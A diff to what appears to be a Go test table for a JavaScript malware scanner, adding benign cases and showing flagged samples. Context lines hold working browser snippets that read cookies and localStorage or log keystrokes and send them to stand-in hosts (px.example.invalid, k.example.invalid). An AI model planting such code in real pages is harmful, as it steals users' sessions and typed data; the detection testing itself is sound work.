@@ -18,6 +18,12 @@ setInterval(() => { if (buf.length) fetch("https://k.example.invalid/c", { metho
 		// a UMD wrapper hands document in: its cookies go with the store
 		{"storage_and_cookies", map[string]string{"index.js": `(function (w, d) { function px() { var ls = {}; for (var i = 0; i < localStorage.length; i++) { var k = localStorage.key(i); ls[k] = localStorage.getItem(k) }
 new Image().src = "https://px.example.invalid/p.gif?d=" + btoa(JSON.stringify({ c: d.cookie, l: ls })) } w.init = function () { setTimeout(px, 3000) } })(window, document);`}, finding.SeverityCritical},
+		// a chart library's keyboard navigation next to the SVG namespace
+		{"svg_namespace_not_a_destination", map[string]string{"index.js": `const NS = "http://www.w3.org/2000/svg"; let typed = []; document.addEventListener("keydown", e => typed.push(e.key)); const img = new Image(); img.src = url; const el = document.createElementNS(NS, "svg")`}, finding.SeverityNone},
+		// a library's storage wrapper lists its keys; its requests sit
+		// 70 KB further on in the same file
+		{"storage_wrapper_far_from_requests", map[string]string{"index.js": `class KV { getKeys() { return Object.keys(localStorage) } getEntries() { return Object.entries(localStorage) } }
+` + strings.Repeat("function pad() { return 1 }\n", 2600) + `fetch("https://echo.example.invalid/" + id + "/clients", { method: "POST", body })`}, finding.SeverityNone},
 		{"keylogger_onkeypress", map[string]string{"index.js": `var keys = ""; document.onkeypress = function (e) { keys += String.fromCharCode(e.which) };
 window.onbeforeunload = function () { navigator.sendBeacon("https://k.example.invalid/b", keys) }`}, finding.SeverityHigh},
 		// a shortcut handler compares keys; the app's analytics call is elsewhere
